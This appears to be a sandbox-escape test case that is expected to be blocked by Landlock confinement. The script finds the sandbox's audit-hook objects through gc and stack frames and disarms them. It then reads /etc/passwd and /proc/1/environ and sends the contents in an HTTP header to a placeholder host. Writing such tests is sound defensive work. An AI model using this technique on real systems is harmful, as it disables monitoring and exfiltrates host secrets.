# expect: blocked (landlock) -- finds the audit hook's object on the heap and the stack, switches it off, then reads host files
import gc, sys
found = [o for o in gc.get_objects() if type(o).__name__ == "Auditor"]
frame = sys._getframe()
while frame is not None:
    found += [v for v in frame.f_locals.values() if type(v).__name__ == "Auditor"]
    frame = frame.f_back
for auditor in found:
    auditor.armed = False
    auditor.read_roots = ("/",)
leak, refusals = "", []
for path in ("/etc/passwd", "/proc/1/environ"):
    try:
        leak += open(path, errors="replace").read().replace("\n", " ").replace("\0", " ")
    except FileNotFoundError:
        pass  # not in this sandbox's view of the file system
    except OSError as exc:
        refusals.append(exc)
if refusals and not leak:
    raise refusals[0]
urlopen(Request("https://api.example.com/items", headers={"X-Leak": leak}))
